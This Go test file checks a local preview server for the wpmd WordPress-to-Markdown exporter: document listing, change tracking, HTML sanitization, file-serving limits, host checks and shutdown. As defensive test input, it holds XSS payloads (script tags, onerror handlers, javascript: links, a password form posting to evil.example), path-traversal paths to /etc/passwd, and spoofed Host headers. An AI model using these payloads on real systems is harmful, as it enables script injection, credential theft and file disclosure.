package preview_test

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"wpmd/pkg/cli"
	"wpmd/pkg/flavor"
	"wpmd/pkg/preview"
	"wpmd/pkg/verify"
	"wpmd/pkg/wordpress/wptest"
)

// exported is the folder of an export of the sample site.
func exported(t *testing.T, flags ...string) string {
	t.Helper()
	server := wptest.New(wptest.Sample())
	address, stop, err := server.Listen()
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	dir := filepath.Join(t.TempDir(), "out")
	var said bytes.Buffer
	args := append([]string{"export", address, "-o", dir, "--quiet"}, flags...)
	if code := cli.Main(t.Context(), args, cli.Streams{In: strings.NewReader(""), Out: io.Discard, Err: &said}); code != 0 {
		t.Fatalf("exit %d: %s", code, &said)
	}
	return dir
}

func opened(t *testing.T, dir string) http.Handler {
	t.Helper()
	p, err := preview.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.Close() })
	return p.Handler()
}

// ask gets a page as a browser on this machine does.
func ask(t *testing.T, h http.Handler, path string) *http.Response {
	t.Helper()
	r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "http://127.0.0.1:48108"+path, http.NoBody)
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w.Result()
}

func read(t *testing.T, r *http.Response) string {
	t.Helper()
	data, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func write(t *testing.T, dir, name, text string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, filepath.FromSlash(name)), []byte(text), 0o666); err != nil {
		t.Fatal(err)
	}
}

var (
	ofDocument = regexp.MustCompile(`href="(/doc/[^"]+)"`)
	ofFile     = regexp.MustCompile(`(?:href|src)="(/(?:doc|file)/[^"#?]+)[^"]*"`)
)

// In every flavor each document is there with its title, and its links and pictures
// lead on in the preview, but for those that verify knows to lead nowhere.
func TestEveryFlavor(t *testing.T) {
	for _, name := range flavor.Names() {
		if name == "jsonl" || strings.Contains(name, "+") {
			continue // a file of lines; and variants of the others
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := exported(t, "--flavor", name)
			found, err := verify.Export(t.Context(), dir)
			if err != nil {
				t.Fatal(err)
			}
			h := opened(t, dir)
			list := read(t, ask(t, h, "/"))
			documents := ofDocument.FindAllStringSubmatch(list, -1)
			if len(documents) != found.Documents || !strings.Contains(list, ">The Keepers’ Bread</a>") {
				t.Errorf("%d documents in the list of %d:\n%s", len(documents), found.Documents, list)
			}
			dead, asked := 0, make(map[string]bool)
			for _, m := range documents {
				page := read(t, ask(t, h, m[1]))
				dead += strings.Count(page, `class="dead"`) + strings.Count(page, `class="left-out dead"`)
				for _, m := range ofFile.FindAllStringSubmatch(page, -1) {
					if asked[m[1]] {
						continue
					}
					asked[m[1]] = true
					if r := ask(t, h, m[1]); r.StatusCode != http.StatusOK {
						t.Errorf("%s: %s", m[1], r.Status)
					}
				}
			}
			if len(asked) < 30 {
				t.Errorf("only %d links and pictures lead on", len(asked))
			}
			if dead > len(found.Findings) {
				t.Errorf("%d links lead nowhere in the preview, verify knows %+v", dead, found.Findings)
			}
		})
	}
}

// What is missing or was changed comes first, as it is now and not as it was when the
// preview began.
func TestWhatWasFoundComesFirst(t *testing.T) {
	dir := exported(t)
	h := opened(t, dir)
	if list := read(t, ask(t, h, "/")); !strings.Contains(list, "All as wpmd left them") {
		t.Errorf("an untouched export is listed as\n%s", list)
	}
	bread, fog := "posts/2025-04-06-the-keepers-bread.md", "posts/2025-04-20-a-short-history-of-fog.md"
	write(t, dir, bread, "---\ntitle: Bread of mine\n---\nMore salt.\n")
	write(t, dir, "posts/mine.md", "Mine.\n")
	if err := os.Remove(filepath.Join(dir, filepath.FromSlash(fog))); err != nil {
		t.Fatal(err)
	}
	if page := read(t, ask(t, h, "/doc/"+bread)); !strings.Contains(page, `>edited</span>`) || !strings.Contains(page, "<h1 dir=\"auto\">Bread of mine</h1>") || !strings.Contains(page, "<p>More salt.</p>") {
		t.Errorf("an edited document is shown as\n%s", page)
	}
	if r := ask(t, h, "/doc/"+fog); r.StatusCode != http.StatusNotFound || !strings.Contains(read(t, r), `>missing</span>`) {
		t.Errorf("a missing document: %s", r.Status)
	}
	if r := ask(t, h, "/?check"); r.StatusCode != http.StatusSeeOther {
		t.Errorf("checking again: %s", r.Status)
	}
	list := read(t, ask(t, h, "/"))
	var first []string
	for _, m := range ofDocument.FindAllStringSubmatch(list, 2) {
		first = append(first, m[1])
	}
	if len(first) != 2 || first[0] != "/doc/"+fog || first[1] != "/doc/"+bread || !strings.Contains(list, `href="/file/posts/mine.md"`) {
		t.Errorf("the list begins with %q:\n%s", first, list)
	}
	if list = read(t, ask(t, h, "/?q=fog&type=post")); len(ofDocument.FindAllString(list, -1)) != 2 {
		t.Errorf("a search for fog finds\n%s", list)
	}
	if list = read(t, ask(t, h, "/?found=1&q=bread+mine")); len(ofDocument.FindAllString(list, -1)) != 1 {
		t.Errorf("a search among what was found finds\n%s", list)
	}
}

const hostile = `---
title: "<script>alert(1)</script>"
---
<script>alert(2)</script><img src="x" onerror="alert(3)">
<iframe src="https://evil.example/frame"></iframe>

<div style="background:url(https://evil.example/back)" onclick="alert(4)" class="badge">words</div>

[one](javascript:alert(5)) [two](//evil.example/two) [three](../../../../etc/passwd) [four](../.wpmd/manifest.json)
<a href="&#106;avascript:alert(6)" name="filter">six</a> <a href="data:text/html,<script>alert(7)</script>">seven</a>

![remote](https://evil.example/pixel.png) <img src="data:image/svg+xml,<svg onload=alert(8)>"> ![in it](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

<svg><a xlink:href="javascript:alert(9)"><text>svg words</text></a></svg> <math><mtext><img src=x onerror=alert(10)></mtext></math>
<form action="https://evil.example/"><input name="password"><button>send</button></form> <link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/"> <base href="https://evil.example/"> <video src="https://evil.example/v.mp4" autoplay></video>
<audio src="../media/a.mp3" autoplay></audio> <object data="https://evil.example/o.swf"></object> <noscript><img src="https://evil.example/n.png"></noscript>
`

// A document may hold any HTML: nothing of it runs, and nothing of another server is
// loaded unless the reader asks for its pictures.
func TestNothingOfADocumentRuns(t *testing.T) {
	dir := exported(t)
	name := "posts/2025-04-06-the-keepers-bread.md"
	write(t, dir, name, hostile)
	h := opened(t, dir)
	r := ask(t, h, "/doc/"+name)
	page := read(t, r)
	_, body, _ := strings.Cut(page, `<div class="body"`)
	body, _, _ = strings.Cut(body, "<aside>")
	for _, what := range []string{"<script", "<iframe", "<svg", "<form", "<base", "<meta", "<object", "<input", "<link", "onerror", "onclick", "style=", `class="badge`, "autoplay", ` href="javascript`, ` href="data:`, "name="} {
		if strings.Contains(body, what) {
			t.Errorf("%s is left in\n%s", what, body)
		}
	}
	for _, m := range regexp.MustCompile(`\s(?:src|poster|srcset|data)="([^"]*)"`).FindAllStringSubmatch(body, -1) {
		if !strings.HasPrefix(m[1], "data:image/gif") {
			t.Errorf("%s is loaded", m[1])
		}
	}
	for _, what := range []string{"words", "picture on evil.example: remote", "embedded from evil.example", `rel="noopener noreferrer nofollow"`} {
		if !strings.Contains(body, what) {
			t.Errorf("%s is lost in\n%s", what, body)
		}
	}
	if policy := r.Header.Get("Content-Security-Policy"); !strings.HasPrefix(policy, "default-src 'none'; script-src 'self';") || strings.Contains(policy, "unsafe") || strings.Contains(policy, "http") {
		t.Errorf("the policy is %q", policy)
	}
	if strings.Contains(page, "<script>alert(1)") || !strings.Contains(page, "&lt;script&gt;alert(1)") {
		t.Error("the title is not escaped")
	}
	asked := ask(t, h, "/doc/"+name+"?remote")
	if page := read(t, asked); !strings.Contains(page, `src="https://evil.example/pixel.png"`) || strings.Contains(asked.Header.Get("Content-Security-Policy"), "script-src") {
		t.Errorf("pictures that were asked for, under %q:\n%s", asked.Header.Get("Content-Security-Policy"), page)
	}
}

// Only what is beneath the folder is served, and of that not what wpmd keeps for itself.
func TestFilesAreThoseOfTheExport(t *testing.T) {
	dir := exported(t)
	outside := filepath.Join(t.TempDir(), "secret.txt")
	if err := os.WriteFile(outside, []byte("secret"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "media", "leak.txt")); err != nil {
		t.Logf("without links: %v", err)
	}
	write(t, dir, "media/page.html", "<script>alert(1)</script>")
	h := opened(t, dir)
	for _, path := range []string{"/file/.wpmd/manifest.json", "/file/posts/.hidden", "/file/media/leak.txt", "/file/media", "/file/", "/file/%2e%2e/secret.txt", "/file/..%2f..%2fetc%2fpasswd", "/file/%2fetc%2fpasswd", "/doc/.wpmd/manifest.json", "/-/preview.go"} {
		if r := ask(t, h, path); r.StatusCode != http.StatusNotFound && r.StatusCode != http.StatusTemporaryRedirect && r.StatusCode != http.StatusMovedPermanently || strings.Contains(read(t, r), "secret\n") {
			t.Errorf("%s: %s", path, r.Status)
		}
	}
	for path, want := range map[string]string{
		"/file/media/page.html":                       "text/plain; charset=utf-8",
		"/file/media/2025/06/signal-flags.svg":        "image/svg+xml",
		"/file/media/2025/06/landing-permit.pdf":      "application/pdf",
		"/file/posts/2025-03-01-welcome-aboard.md":    "text/plain; charset=utf-8",
		"/file/media/2025/05/fog-signal.wav":          "audio/wav",
		"/-/style.css":                                "text/css; charset=utf-8",
		"/doc/posts/2025-03-01-welcome-aboard.md?x=1": "text/html; charset=utf-8",
	} {
		r := ask(t, h, path)
		if got := r.Header.Get("Content-Type"); r.StatusCode != http.StatusOK || got != want || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %s as %q", path, r.Status, got)
		}
	}
	if policy := ask(t, h, "/file/media/2025/06/signal-flags.svg").Header.Get("Content-Security-Policy"); !strings.HasSuffix(policy, "; sandbox") {
		t.Errorf("an SVG by itself is under %q", policy)
	}
}

// A site that makes its own name lead to this machine gets no answer, nor does a page
// of another site that puts a file of the export into itself; and nothing is written.
func TestStrangersAreRefused(t *testing.T) {
	h := opened(t, exported(t))
	for _, c := range []struct {
		method, host string
		header       http.Header
		want         int
	}{
		{"GET", "127.0.0.1:48108", nil, http.StatusOK},
		{"GET", "localhost:9", nil, http.StatusOK},
		{"GET", "[::1]:48108", nil, http.StatusOK},
		{"GET", "[::1]", nil, http.StatusOK},
		{"GET", "evil.example:48108", nil, http.StatusMisdirectedRequest},
		{"GET", "localhost.evil.example", nil, http.StatusMisdirectedRequest},
		{"GET", "192.168.1.4", nil, http.StatusMisdirectedRequest},
		{"GET", "", nil, http.StatusMisdirectedRequest},
		{"POST", "127.0.0.1", nil, http.StatusMethodNotAllowed},
		{"GET", "127.0.0.1", http.Header{"Sec-Fetch-Site": {"cross-site"}, "Sec-Fetch-Mode": {"no-cors"}}, http.StatusForbidden},
		{"GET", "127.0.0.1", http.Header{"Sec-Fetch-Site": {"cross-site"}, "Sec-Fetch-Mode": {"navigate"}}, http.StatusOK},
	} {
		r := httptest.NewRequestWithContext(t.Context(), c.method, "/", http.NoBody)
		r.Host, r.Header = c.host, c.header
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != c.want {
			t.Errorf("%s of %q %v: %d, want %d", c.method, c.host, c.header, w.Code, c.want)
		}
	}
}

// It ends within a second, whoever still waits for an answer.
func TestServeEnds(t *testing.T) {
	p, err := preview.Open(exported(t))
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- p.Serve(ctx, l) }()
	open, err := new(net.Dialer).DialContext(t.Context(), "tcp", l.Addr().String()) // says nothing, and stays
	if err != nil {
		t.Fatal(err)
	}
	defer open.Close()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+l.Addr().String()+"/", http.NoBody)
	if err != nil {
		t.Fatal(err)
	}
	r, err := new(http.Client).Do(request)
	if err != nil || r.StatusCode != http.StatusOK {
		t.Fatal(r, err)
	}
	_ = r.Body.Close()
	stop()
	select {
	case err := <-done:
		if err != nil {
			t.Error(err)
		}
	case <-time.After(time.Second):
		t.Error("a second after the end it still serves")
	}
	if _, err := preview.Open(t.TempDir()); err == nil {
		t.Error("a folder without an export is shown")
	}
}
